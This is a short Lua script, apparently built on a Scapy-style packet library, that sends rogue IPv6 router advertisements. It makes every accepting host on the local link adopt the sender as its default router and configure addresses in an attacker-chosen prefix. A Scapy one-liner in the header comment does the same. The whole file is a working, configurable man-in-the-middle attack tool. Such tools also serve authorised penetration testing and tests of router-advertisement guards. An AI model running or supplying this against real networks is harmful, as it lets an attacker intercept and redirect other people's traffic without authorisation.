-- ra_spoof.lua - a rogue router advertisement, the IPv6 twin of a rogue
-- DHCP server: every host on the link that accepts advertisements takes
-- the attacker as a default router and makes itself an address in the
-- announced prefix (SLAAC, RFC 4862).
--   Scapy: sendp(Ether()/IPv6(dst="ff02::1")/ICMPv6ND_RA()
--                /ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
--                /ICMPv6NDOptSrcLLAddr(lladdr=my_mac), iface=...)
local o = require("pkt.cli").parse(arg, "Announce this host as a router and a /64 prefix to the link.", {
  { "iface", "i", "interface to send on (default: the first with IPv6)" },
  { "prefix", "p", "the /64 prefix to announce", default = "2001:db8:bad::" },
  { "lifetime", "l", "seconds the victims keep the router", default = 1800, number = true },
  { "count", "c", "advertisements to send", default = 3, number = true },
  { "interval", "n", "seconds between them", default = 0.5, number = true },
})

local iface = require("pkt.cli").iface(o.iface, "ipv6")
local mac = get_if_hwaddr(iface)
-- an advertisement comes from the router's link-local address (RFC 4861 6.1.2)
local src = get_if_addr6(iface, "ff02::1")
-- the prefix on-link (L) and for addresses (A), a day valid
local ra = Ether{src=mac} / IPv6{src=src, dst="ff02::1"} / ICMPv6ND_RA{routerlifetime=o.lifetime}
  / ICMPv6NDOptPrefixInfo{prefix=o.prefix, prefixlen=64, validlifetime=86400, preferredlifetime=14400}
  / ICMPv6NDOptSrcLLAddr{lladdr=mac}
sendp(ra, {iface=iface, count=o.count, inter=o.interval, verbose=false})
print(("announced %s/64 and router %s (%s) on %s, %d times"):format(o.prefix, src, mac, iface, o.count))
